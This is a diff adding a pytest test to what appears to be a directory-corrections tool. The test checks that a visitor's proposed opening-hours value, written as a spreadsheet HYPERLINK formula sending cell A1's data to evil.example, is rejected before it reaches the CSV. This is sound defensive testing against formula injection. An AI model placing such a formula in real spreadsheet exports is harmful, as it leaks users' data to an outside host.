@@ -124,6 +124,21 @@ def test_cli_csv_export_never_overwrites_the_directory(tmp_path, capsys):
     assert directory.read_bytes() == before
 
 
+def test_a_reported_formula_cannot_be_accepted_into_the_directory(tmp_path):
+    # The review's public route: a visitor reports opening hours as a formula, a maintainer accepts as proposed.
+    path = make_offices_csv(tmp_path / "offices.csv", [{"id": "a", "opening_hours": "Mo 9-12"}])
+    before = path.read_bytes()
+    store = corrections.CorrectionStore(str(tmp_path / "c.sqlite"))
+    proposed = '=HYPERLINK("http://evil.example/?d="&A1,"Mo-Fr 9-12")'
+    number = store.submit("a", "hours", proposed, client_key="visitor")
+    editor = corrections.DirectoryEditor(store, path, target="csv")
+    with pytest.raises(corrections.CorrectionError, match="spreadsheet formula"):
+        editor.accept(number, {"opening_hours": store.suggestion(number).proposed}, by="anna")
+    assert path.read_bytes() == before
+    assert store.suggestion(number).status == "open"
+    store.dispose()
+
+
 @pytest.mark.parametrize("fmt", ["geojson", "gpkg"])
 def test_gis_exports_neutralise_hostile_attributes(tmp_path, fmt):
     path, count = gis_export.export(hostile_rows(), tmp_path / f"o.{fmt}", fmt)
